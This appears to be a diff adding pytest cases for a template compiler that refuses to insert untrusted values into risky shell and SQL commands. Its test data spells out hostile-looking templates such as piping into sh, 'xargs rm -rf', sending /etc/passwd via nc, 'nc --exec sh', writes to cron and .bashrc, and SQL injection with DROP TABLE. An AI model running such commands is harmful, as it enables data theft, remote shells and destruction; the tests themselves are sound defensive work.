@@ -104,12 +104,298 @@ def test_value_that_cannot_be_trusted_is_left_out_and_shown_beside(value: str | 
 def test_no_value_is_filled_in_where_the_argument_is_more_than_data(template: str) -> None:
     """Not even a harmless word: the compiler says so, and why."""
     found = fill(compiled(template, x="x"), {"x": "web-1"})
-    if template == "echo <x> > <x>":
-        assert found.text == "echo web-1 > <x>"
-    else:
-        assert found.text == template
+    assert found.text == template
     assert NEVER in found.notes[-1]
     assert "“web-1”" in found.notes[-1]
+
+
+UNSEEN = (
+    "{ echo <x>; } | sh",
+    "{ true; echo <x> | cat; } | sh",
+    "for i in 1; do echo <x>; done | sh",
+    "if true; then echo <x>; fi | sh",
+    "if false; then :; else echo <x>; fi 2>&1 | sh",
+    "until echo <x>; do :; done | sh",
+    "while true; do echo <x>; break; done | xargs rm -rf",
+    "for i in 1; do { echo <x>; } done | sort | sh",
+    "! { echo <x>; } |\\\nsh",
+    "[[ -n a ]] && { echo <x>; } |& sh",
+    "{ echo <x>; } | while read a; do $a; done",
+    "{ echo <x>; } | { sh; }",
+    'ssh db-1 "{ echo <x>; } | sh"',
+    "function f {\n echo <x>\n}\nf | sh",
+    "function echo { sh -c $1; }; echo <x>",
+    "f() { echo <x>; }; f | sh",
+    "alias echo=sh; echo <x>",
+    "coproc sh; echo <x>",
+    "trap sh DEBUG; echo <x>",
+    "echo <x> | sort -o j.sh; sh j.sh",
+    "echo <x> | sort --output=j.sh; sh j.sh",
+    "echo <x> | sort --compress-program=./a",
+    "echo <x> | uniq - j.sh; sh j.sh",
+    "echo <x> | tee j.sh",
+    "nohup echo <x>; sh nohup.out",
+    "echo $(kubectl get pod <x>) | sh",
+)
+"""Commands whose output another program gets, or may get."""
+WRITTEN = (
+    "echo <x> > j.sh; sh j.sh",
+    'echo "<x>" >> j.sh; . ./j.sh',
+    "> j.sh echo <x>; sh j.sh",
+    "echo <x> >| j.sh",
+    "echo <x> &> j.sh",
+    "echo <x> &>> j.sh",
+    "echo <x> >& j.sh",
+    "echo <x> 1<> j.sh",
+    "ls <x> 2> j.sh",
+    "echo <x> > /proc/sysrq-trigger",
+    "echo <x> > $F",
+    "echo <x> >&3",
+    "echo <x> >&$fd",
+    "echo <x> | cat | sort | head > /etc/cron.d/x",
+    "{ echo <x>; } > j.sh",
+    "for i in 1; do echo <x>; done >> j.sh",
+    "exec 3>j; echo <x> >&3; sh j",
+    "exec > j; echo <x>",
+    "command exec > j; echo <x>",
+    "\\exec > j; echo <x>",
+    "$E > j; echo <x>",
+    "<y> > j; echo <x>",
+    "echo <x>; exec 2> j",
+    "kubectl exec web -- cat <x> > ~/.bashrc",
+    "ssh db-1 'echo <x> > j.sh'",
+    "curl -o j.sh http://localhost/<x>",
+    "curl -oj.sh http://localhost/<x>",
+)
+"""Commands whose output is written to a file."""
+SENT = (
+    'curl -H "Authorization: Bearer abc" <x>:9090/-/reload',
+    'curl <x>:9090/-/reload -H "X-Auth: s3cr3t"',
+    "curl http://<x>:9200/_cat/health -u elastic:changeme",
+    "curl http://<x>/ -n",
+    "curl http://<x>/ --netrc-file n",
+    "curl http://<x>/ --oauth2-bearer abc",
+    "curl http://<x>/ -E cert.pem",
+    "curl http://<x>/ -b session=1",
+    "curl http://<x>/ -d pin=1234",
+    "curl http://<x>/?key=abc",
+    "curl http://user:pw@<x>/",
+    "curl http://<x>/T01234567/0123456789abcdef0123456789abcdef",
+    'curl -H "X-Auth: $T" http://<x>/',
+    "curl -H @headers http://<x>/",
+    'curl -H "Accept: $T" http://<x>/',
+    "curl http://api/$T http://<x>/",
+    "curl http://<x>/ http://<x>/",
+    "curl http://web-<x>/$T",
+    "curl ftp://<x>/f -u a:b",
+    "curl file:///<x>",
+    "curl scp://<x>/a",
+    "PGPASSWORD=hunter2 psql -h <x> -U app app",
+    "psql -h <x>",
+    "psql --host=<x> -c 'SELECT 1'",
+    'psql "host=<x> user=app password=hunter2"',
+    'psql -d "dbname=a hostaddr=<x>"',
+    "psql 'postgresql://<x>/app?user=app&password=pw'",
+    "psql 'postgresql://a/app?host=<x>'",
+    "psql postgresql://app:pw@<x>/app",
+    "psql postgresql://a,<x>/app",
+    "PGPASSWORD=hunter2 pg_isready -h <x>",
+    'pg_isready -d "host=<x> password=hunter2"',
+    "pg_isready --dbname=postgresql://app:pw@<x>/app",
+    "pg_isready -h <x> -d 'password=hunter2'",
+    "pg_isready -h <x> -d postgresql://app:pw@/app",
+    'curl -sSL -H "X-Auth: s3cr3t" -H "Host: <x>" http://localhost/',
+    "redis-cli -h <x> -a hunter2 ping",
+    "redis-cli -h <x> --pass hunter2 ping",
+    "redis-cli -h <x> auth hunter2",
+    "redis-cli -h <x> set key value",
+    "export REDISCLI_AUTH=hunter2; redis-cli -h <x> ping",
+    "amtool --alertmanager.url=http://me:pw@<x>/ alert query",
+    "amtool --alertmanager.url=http://<x>/ --http.config.file=f alert query",
+    "nc <x> 80 < /etc/passwd",
+    "cat /etc/passwd | nc <x> 80",
+    "cat dump.sql | ssh <x> cat",
+    "nc <x> 80 --exec sh",
+)
+"""Commands that send a credential or a file to a host that the label would choose."""
+OPENED = (
+    'curl -s --data-urlencode "instance@<x>" http://localhost/',
+    'curl -s --data-urlencode "@<x>" http://localhost/',
+    "curl -s --data-urlencode <x> http://localhost/",
+    'curl -sd "$(cat <x>)" http://localhost/',
+    'curl -s "http://localhost/$(cat <x>)"',
+    "curl -d @<x> http://localhost/",
+    "curl --data @f-<x> http://localhost/",
+    "curl -d@<x> http://localhost/",
+    "curl --json @<x> http://localhost/",
+    "curl -F a=@<x> http://localhost/",
+    "curl -T <x> http://localhost/",
+    "curl -K <x> http://localhost/",
+    "curl -H @<x> http://localhost/",
+    "curl -w '%output{<x>}' http://localhost/",
+    "curl -w @<x> http://localhost/",
+    "curl -o <x> http://localhost/",
+    "curl -sSD <x> http://localhost/",
+    "curl --variable a@<x> http://localhost/",
+    "docker restart $(cat <x>)",
+    "docker restart $(head -1 <x>)",
+    "docker restart $(docker ps -q | grep a <x>)",
+    "docker restart $(kubectl get pods | cat <x>)",
+    "docker restart $(echo <x> | rev)",
+    "docker restart $(kubectl get pod <x>; cat f)",
+    "docker restart $(kubectl get pod <x> > f)",
+)
+"""Commands that read or write a file that the label would name, and do more than show it."""
+BESIDE = (
+    "kubectl rollout restart deployment <x>>/dev/null",
+    "echo a <x>>/dev/null",
+    "echo a <x>>&2",
+    "echo a <x>>out.txt",
+    "echo a <x>>>out.txt",
+    "echo a <x>>|out.txt",
+    "echo a <x><in.txt",
+    "echo a 1<x>>/dev/null",
+    'echo a "<x>">/dev/null',
+    "echo a b<x>>/dev/null 2>&1",
+    'echo "ready!?<x>"',
+    'echo "ready!-<x>"',
+    "echo !<x>",
+    'echo "hi!" <x>',
+    "echo !!:<x>",
+    "echo '!ls' <x>",
+    'echo "!?a b" now <x>',
+    "kubectl debug -it web --image=<x>/tools",
+    "kubectl debug -it web --image <x>",
+    "docker exec -u <x> web id",
+    "docker exec --user=<x> web id",
+    "iptables -A INPUT -s 10.0.0.1 -j <x>",
+    "iptables -A <x> -s 10.0.0.1",
+    "ip addr <x> dev eth0",
+    "ip link <x> eth0 up",
+    "ip route <x>",
+    "ip <x>",
+    "ps <x>",
+    "top <x>",
+    "psql -d app -c 'SELECT <x>'",
+)
+"""Commands in which a value would be a redirection's number, a word of the history, code, a user or a verb."""
+
+
+@pytest.mark.parametrize("template", [*UNSEEN, *WRITTEN])
+def test_nothing_is_filled_in_where_more_than_a_reader_gets_the_output(template: str) -> None:
+    """A file may be run later and a program may run it now: behind the word, its brackets, its loop, its function."""
+    assert_is_left(template)
+
+
+@pytest.mark.parametrize("template", [*SENT, *OPENED])
+def test_a_label_chooses_neither_who_gets_a_secret_nor_which_file_is_sent(template: str) -> None:
+    """Whatever is not known of the command may be a credential: one such word, and nothing is filled in."""
+    assert_is_left(template)
+
+
+@pytest.mark.parametrize("template", BESIDE)
+def test_a_value_stays_an_argument_and_chooses_no_verb(template: str) -> None:
+    """`2>` is a redirection without an argument, and `ip addr flush` is no question."""
+    assert_is_left(template)
+
+
+def assert_is_left(template: str) -> None:
+    """Assert that no value is filled in, and that the reader learns why."""
+    for value in ("id", "2", "web-1", "10.0.0.1:9100"):
+        found = fill(compiled(template, x="x", y=None), {"x": value})
+        assert found.text == template
+        assert any(NEVER in note for note in found.notes)
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "echo <x> 2>&1 | sort -rn -k 2 | uniq -c | head -5",
+        "kubectl logs <x> 2>/dev/null | grep -v a",
+        "kubectl logs <x> > /dev/null",
+        "for i in 1 2; do kubectl get pod <x>; done | sort | uniq -c",
+        "if true; then echo <x>; fi",
+        "while ! kubectl get pod <x>; do sleep 1; done",
+        "kubectl get pod <x>\nkubectl get events > events.txt",
+        "docker restart $(docker-compose ps -q <x>)",
+        "docker restart $(kubectl get pods -o name | grep <x> | head -1)",
+        "echo ruok | nc <x> 2181",
+        "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://<x>:9090/-/ready",
+        'curl -H "Accept: application/json" <x>:9200/_cat/health',
+        "curl -sI https://web-<x>.example.com/",
+        "curl -u me:$P 'https://api.example.com/a?service=<x>'",
+        'curl -H "Authorization: Bearer $T" -d \'{"name": "<x>"}\' $API/silences',
+        "curl -G http://localhost/ --data-urlencode 'query=up{instance=\"<x>\"}'",
+        'psql -h db -d <x> -c "SELECT 1"',
+        'psql "host=db port=5432 dbname=<x>"',
+        "psql postgresql://app@db:5432/<x>",
+        "redis-cli -h <x> info memory",
+        "pg_isready -h <x> -p 5432",
+        'curl -sS -H "Host: <x>" http://localhost/',
+        "amtool --alertmanager.url=http://<x> alert query",
+        "ip addr show dev <x>",
+        "echo 'a != b' <x>",
+    ],
+)
+def test_what_is_known_to_be_a_question_is_still_filled_in(template: str) -> None:
+    """An output that is shown, a host that gets no secret, a part of what is asked of a fixed host."""
+    found = fill(compiled(template, x="x"), {"x": "web1"})
+    assert (found.text, found.notes) == (template.replace("<x>", "web1"), ())
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "DO $b$ BEGIN NULL; SELECT 1 FROM t WHERE a = '<x>'; END $b$",
+        "DO $$ BEGIN NULL; SELECT 1 FROM t WHERE a = '<x>'; END $$",
+        "SELECT $é$ ; SELECT 1 FROM t WHERE a = '<x>' $é$",
+        "SELECT $a1$ ; SELECT 1 FROM t WHERE a = '<x>' $a1$",
+        "SELECT $<y>$ ; SELECT 1 FROM t WHERE a = '<x>' $<y>$",
+        "SELECT $a$ ; SELECT 1 FROM t WHERE a = <x> $a$",
+        "CREATE FUNCTION f() RETURNS int AS $f$ SELECT 1; SELECT 1 FROM t WHERE a = '<x>' $f$ LANGUAGE sql",
+        "SELECT 1 FROM t WHERE a = '<x>' \\gexec",
+        "SELECT 1 FROM t WHERE a = '<x>' \\g |sh",
+        "SELECT a FROM t WHERE a = '<x>' INTO OUTFILE '/tmp/a'",
+        "COPY (SELECT a FROM t WHERE a = '<x>') TO PROGRAM 'sh'",
+        "PREPARE p FROM 'a'; SELECT 1 FROM t WHERE a = '<x>'",
+        "EXECUTE 'a'; SELECT 1 FROM t WHERE a = '<x>'",
+        "SELECT q'!it's!'; SELECT 1 FROM t WHERE a = '<x>'",
+        "SELECT [it's] FROM t WHERE a = '<x>'",
+        "UPDATE a JOIN b ON a.i = b.i SET a.role = '<x>'",
+        "UPDATE a SET b = (SELECT c FROM d WHERE e = 1), role = '<x>'",
+        "UPDATE a SET note = 'WHERE', role = '<x>'",
+        "UPDATE a SET note = \" WHERE \", role = '<x>'",
+        "SELECT a FROM t WHERE b = 1 ORDER BY c = '<x>'",
+        "SELECT a FROM t WHERE b = @v := '<x>'",
+        "WITH a AS (SELECT 1 WHERE 1 = 1) UPDATE b SET role = '<x>'",
+    ],
+)
+def test_text_that_a_database_may_run_or_keep_takes_no_value(template: str) -> None:
+    """A tag between dollar signs quotes as `$$` does; a clause behind the condition ends it."""
+    for value in ("$b$; DROP TABLE t; --", "admin", "1"):
+        found = fill(compiled(template, "sql", x="x", y=None), {"x": value})
+        assert found.text == template
+        assert any(NEVER in note for note in found.notes)
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "UPDATE a JOIN b ON a.i = b.i SET a.c = 1 WHERE a.role = '<x>'",
+        "SELECT a FROM t WHERE b IN (SELECT c FROM d WHERE e = '<x>')",
+        "SELECT a FROM t WHERE (b = 1 OR (c = '<x>'))",
+        "SELECT a FROM t JOIN u ON t.i = u.i AND u.name = '<x>'",
+        "SELECT a FROM t WHERE b IN (SELECT c FROM d ORDER BY e) AND f = '<x>'",
+        "SELECT a FROM t WHERE b IN ('x', '<x>') ORDER BY c",
+        "WITH a AS (SELECT b FROM c WHERE d = '<x>') SELECT 1",
+        "SELECT a FROM t GROUP BY b HAVING c = '<x>'",
+        "DELETE FROM t WHERE note = ' SET ' AND name = '<x>'",
+        "EXPLAIN SELECT a FROM t WHERE name <> '<x>' LIMIT 5",
+    ],
+)
+def test_text_that_a_condition_compares_takes_a_value(template: str) -> None:
+    """Wherever the condition stands: below a join, in brackets, in a statement within the statement."""
+    assert fill(compiled(template, "sql", x="x"), {"x": "it's"}).text == template.replace("<x>", "it''s")
 
 
 @pytest.mark.parametrize(
